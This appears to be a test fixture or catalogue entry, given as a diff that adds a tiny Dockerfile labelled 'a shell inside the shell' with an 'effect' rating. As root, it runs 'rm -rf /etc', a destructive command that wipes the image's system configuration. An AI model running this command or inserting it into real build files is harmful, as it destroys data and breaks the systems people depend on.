@@ -1,0 +1,9 @@
+# a shell inside the shell
+# on: debian
+# effect: 7
+ARG base_image
+FROM ${base_image}
+USER root
+RUN sh -c 'rm -rf /etc'
+ARG user_id
+USER ${user_id}
